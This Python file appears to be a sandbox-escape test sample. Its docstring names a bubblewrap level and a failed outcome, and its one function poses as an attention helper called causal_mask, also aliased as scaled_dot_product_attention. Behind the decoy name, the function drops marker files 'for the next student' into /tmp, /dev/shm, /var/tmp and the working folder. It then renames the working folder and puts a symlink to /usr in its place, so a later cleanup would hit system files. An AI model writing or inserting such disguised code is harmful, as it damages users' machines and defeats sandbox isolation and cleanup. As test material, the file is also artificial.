"""Renames its private folder and leaves a link to somewhere else in its place, so that clearing up clears nothing.

levels: bubblewrap user
process: not promised: your files are its files
outcomes: failed
"""

import os

import torch


def causal_mask(seq, device=None):
    folder = os.getcwd()
    other = os.path.join(os.path.dirname(folder), "sw-attack-moved")
    for place in ("/tmp", "/dev/shm", "/var/tmp", folder):
        try:
            with open(f"{place}/sw-attack-left", "w") as file:
                file.write("for the next student")
        except OSError:
            pass
    try:
        os.rename(folder, other)
        os.symlink("/usr", folder)
    except OSError:
        pass
    return torch.zeros(seq, seq, dtype=torch.bool)


scaled_dot_product_attention = causal_mask
